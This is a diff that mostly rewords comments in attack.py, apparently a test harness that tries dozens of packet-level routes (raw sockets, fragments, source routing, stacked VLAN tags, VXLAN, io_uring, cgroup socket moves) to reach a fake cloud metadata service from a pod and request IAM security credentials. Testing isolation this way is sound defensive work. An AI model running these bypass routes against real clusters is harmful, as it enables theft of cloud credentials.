@@ -1,12 +1,12 @@
-"""Tries to get a packet to the metadata service by one route, as a pod's process would.
+"""Tries to send a packet to the IMDS by one route, as a pod's process would.
 
     attack.py ROUTE [--interface NAME] [--mac NEXT_HOP] [--tunnel-to ADDRESS] [--moved FROM TO] [--again]
 
-With --moved the process makes its sockets in one control group and uses them in another; with --again it goes on until
-it is killed.
+With --moved the process makes its sockets in one control group and uses them in another; with --again it repeats the
+attempt until it is killed.
 
-Whether anything got there is for the packet log of the stand-in to say. Exit code 0: what the route is made of was
-sent, or refused with EPERM, which is as good; printed: what came back. Exit code 3: this kernel has no such thing.
+The packet log of the fake IMDS shows whether a packet arrived. Exit code 0: the packets were sent, or refused with
+EPERM, which counts as well; the response is printed. Exit code 3: this kernel does not support the route.
 """
 
 import argparse
@@ -21,24 +21,24 @@ import time
 
 import forged
 from packets import (
-    ICMP, ICMPV6, IPIP, IPV6_ROUTING, IMDS4, IMDS6, NODE, NODE6, TCP, UDP, echo, ethernet, in_fragments, ipv4, ipv6, lsrr,
-    segments, syn)
+    ICMP, ICMPV6, IPIP, IPV6_ROUTING, IMDS4, IMDS6, NODE, NODE6, TCP, UDP, echo, ethernet, in_fragments, ipv4, ipv6,
+    lsrr, segments, syn)
 
 GET = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n"
 PATIENCE = 0.3
 PATIENCE_WITH_NODE = 20
-# Between two attempts, in seconds: the machine has other work, too.
+# Pause between two attempts, in seconds: the machine has other work as well.
 PAUSE = 0.02
 MPTCP, VXLAN_PORT = 262, 4789
 SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
 MSG_FASTOPEN, TCP_FASTOPEN_CONNECT = 0x20000000, 30
-# Nobody's addresses, of the pods' networks: a node refuses its own as a source.
+# Unused addresses of the pods' networks: a node refuses its own as a source.
 OTHER, OTHER6 = "10.9.0.99", "fd00:9::99"
-# The first pod's: an answer finds its way.
+# Addresses of the first pod, which answers can reach.
 POD, POD6 = "10.9.0.1", "fd00:9::1"
-# Longer than any interface's packets.
+# Longer than the packets of any interface.
 LONG = bytes(4000)
-# Hop-by-hop options that say nothing (RFC 8200).
+# Hop-by-hop options without content (RFC 8200).
 PADDING = bytes([TCP, 0, 1, 4, 0, 0, 0, 0])
 NO_MAC = "00:00:00:00:00:00"
 
@@ -48,7 +48,7 @@ def family_of(address):
 
 
 def own(to):
-    """This process's own address towards the uplink, of the family of M."""
+    """Returns this process's address towards the uplink, of the same family as the IMDS address."""
     probe = socket.socket(family_of(to), socket.SOCK_DGRAM)
     probe.connect(("fd00:8::2" if ":" in to else "10.8.0.2", 9))
     return probe.getsockname()[0]
@@ -77,7 +77,7 @@ def fastopen(to):
 
 
 def fastopen_connect(to):
-    """The call returns at once, and the first packet leaves with the first bytes."""
+    """connect() returns at once, and the first packet is sent with the first bytes."""
     sock = socket.socket(family_of(to), socket.SOCK_STREAM)
     sock.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
     sock.settimeout(PATIENCE)
@@ -101,14 +101,14 @@ def ping(to, kind=socket.SOCK_RAW):
 
 
 def raw(*packets, to=IMDS4):
-    """Packets with headers of our own making; the kernel routes them."""
+    """Sends packets with headers of our own; the kernel routes them."""
     sock = socket.socket(family_of(to), socket.SOCK_RAW, socket.IPPROTO_RAW)
     for packet in packets:
         sock.sendto(packet, (to, 0))
 
 
 def to_node(packet, node):
-    """And waits for the process there: what it says to a question of our own, it says after an answer to the packet."""
+    """Sends a packet to the node, then waits for an answer of the process there, which comes after that to the packet."""
     raw(packet, to=node)
     sock = socket.socket(family_of(node), socket.SOCK_DGRAM)
     sock.sendto(b"", (node, forged.ANSWERED))
@@ -116,8 +116,8 @@ def to_node(packet, node):
         sys.exit("the process of the node does not answer")
 
 
-def frame(packet, interface, mac, kind=0x0800, tags=(), bypass=False, said=None, cooked=False):
-    """A packet that no routing of this namespace sees."""
+def frame(packet, interface, mac, kind=0x0800, tags=(), bypass=False, protocol=None, cooked=False):
+    """Sends a frame, past the routing of this namespace."""
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM if cooked else socket.SOCK_RAW, 0)
     if bypass:
         sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
@@ -125,13 +125,13 @@ def frame(packet, interface, mac, kind=0x0800, tags=(), bypass=False, said=None,
         sock.sendto(packet, (interface, kind, 0, 0, bytes.fromhex(mac.replace(":", ""))))
         return
     sock.bind((interface, 0))
-    # Not by sysfs, which shows the interfaces of the namespace that it was mounted in.
+    # Not from sysfs, which shows the interfaces of the namespace that it was mounted in.
     source = sock.getsockname()[4]
-    sock.sendto(ethernet(packet, mac, source, kind, tags), (interface, kind if said is None else said))
+    sock.sendto(ethernet(packet, mac, source, kind, tags), (interface, kind if protocol is None else protocol))
 
 
 def io_uring_connect(to):
-    """IORING_OP_CONNECT, without a library (include/uapi/linux/io_uring.h)."""
+    """Connects with IORING_OP_CONNECT, without a library (include/uapi/linux/io_uring.h)."""
     libc = ctypes.CDLL(None, use_errno=True)
     params = bytearray(120)
     ring = libc.syscall(425, 1, (ctypes.c_char * 120).from_buffer(params))
@@ -149,7 +149,7 @@ def io_uring_connect(to):
     submissions[array:array + 4] = struct.pack("I", 0)
     at = struct.unpack_from("I", submissions, tail)[0]
     submissions[tail:tail + 4] = struct.pack("I", at + 1)
-    # Submitted, not waited for: a connect that nobody answers takes minutes.
+    # Submitted without waiting: an unanswered connect takes minutes.
     if libc.syscall(426, ring, 1, 0, 0, None, 0) != 1:
         raise OSError(ctypes.get_errno(), "io_uring_enter")
     _, writable, _ = select.select([], [sock], [], PATIENCE)
@@ -158,7 +158,7 @@ def io_uring_connect(to):
 
 
 def host_form(text):
-    """As curl and browsers read addresses: octal, decimal, hexadecimal."""
+    """Connects to an address in a notation that curl and browsers accept: octal, decimal, hexadecimal."""
     family, _, _, _, address = socket.getaddrinfo(text, 80, type=socket.SOCK_STREAM)[0]
     sock = socket.socket(family, socket.SOCK_STREAM)
     sock.settimeout(PATIENCE)
@@ -167,13 +167,13 @@ def host_form(text):
 
 
 def vxlan(packet, mac, to):
-    """As a peer of the overlay sends it: network 7, addressed to the device at the other end."""
+    """Sends a packet as a peer of the overlay does: in network 7, addressed to the device at the other end."""
     header = struct.pack("!II", 0x08000000, 7 << 8)
     udp(to, VXLAN_PORT, False, header + ethernet(packet, mac))
 
 
 def move_between(one, other):
-    """From here on sockets are made in one control group, and used in the other."""
+    """Makes sockets in one control group from now on, and uses them in the other."""
     make = socket.socket
 
     def join(group):
@@ -234,13 +234,14 @@ def routes(interface, mac, tunnel_to):
         "raw-fragments-v4": lambda: raw(*in_fragments(own(IMDS4), IMDS4)),
         "raw-fragments-v6": lambda: raw(*in_fragments(own(IMDS6), IMDS6), to=IMDS6),
         "raw-source-route-by-node": lambda: raw(ipv4(syn(POD), TCP, POD, NODE, lsrr(131)), to=NODE),
-        "raw-segments-by-node-v6": lambda: raw(ipv6(segments() + syn(POD6, IMDS6), IPV6_ROUTING, POD6, NODE6), to=NODE6),
+        "raw-segments-by-node-v6": lambda: raw(
+            ipv6(segments() + syn(POD6, IMDS6), IPV6_ROUTING, POD6, NODE6), to=NODE6),
         "raw-ip-in-ip-to-imds": lambda: raw(ipv4(v4(), IPIP, own(IMDS4))),
         "packet-syn-v4": lambda: frame(v4(), interface, mac),
         "packet-syn-v6": lambda: frame(ipv6(syn(own(IMDS6), IMDS6), TCP, own(IMDS6)), interface, mac, kind=0x86DD),
         "packet-cooked": lambda: frame(v4(), interface, mac, cooked=True),
         "packet-qdisc-bypass": lambda: frame(v4(), interface, mac, bypass=True),
-        "packet-says-other-protocol": lambda: frame(v4(), interface, mac, said=0x88B5),
+        "packet-with-other-protocol": lambda: frame(v4(), interface, mac, protocol=0x88B5),
         "packet-udp": lambda: frame(ipv4(struct.pack("!HHHH", 9, 53, 8, 0), UDP, own(IMDS4)), interface, mac),
         "packet-fragment": lambda: frame(v4(fragment=0x2000), interface, mac),
         "packet-vlan": lambda: frame(v4(), interface, mac, tags=[(0x8100, 5)]),
@@ -248,7 +249,7 @@ def routes(interface, mac, tunnel_to):
         "packet-double-vlan": lambda: frame(v4(), interface, mac, tags=[(0x88A8, 5), (0x8100, 0)]),
         "packet-double-vlan-zero": lambda: frame(v4(), interface, mac, tags=[(0x88A8, 0), (0x8100, 0)]),
         "packet-triple-vlan-zero": lambda: frame(v4(), interface, mac, tags=[(0x8100, 0)] * 3),
-        # More than the programs look under, and as many as Linux 7.3 takes off.
+        # More tags than the programs parse, and as many as Linux 7.3 removes.
         "packet-deep-vlan-zero": lambda: frame(v4(), interface, mac, tags=[(0x8100, 0)] * 8),
         "packet-on-loopback-v4": lambda: frame(ipv4(syn(OTHER), TCP, OTHER), "lo", NO_MAC),
         "packet-on-loopback-v6": lambda: frame(ipv6(syn(OTHER6, IMDS6), TCP, OTHER6), "lo", NO_MAC, kind=0x86DD),
@@ -285,7 +286,7 @@ def attempt(attack):
     try:
         attack()
     except TimeoutError:
-        print("nothing came back")
+        print("no response")
     except OSError as error:
         if error.errno in (errno.EPROTONOSUPPORT, errno.EAFNOSUPPORT, errno.ENOSYS):
             sys.exit(3)
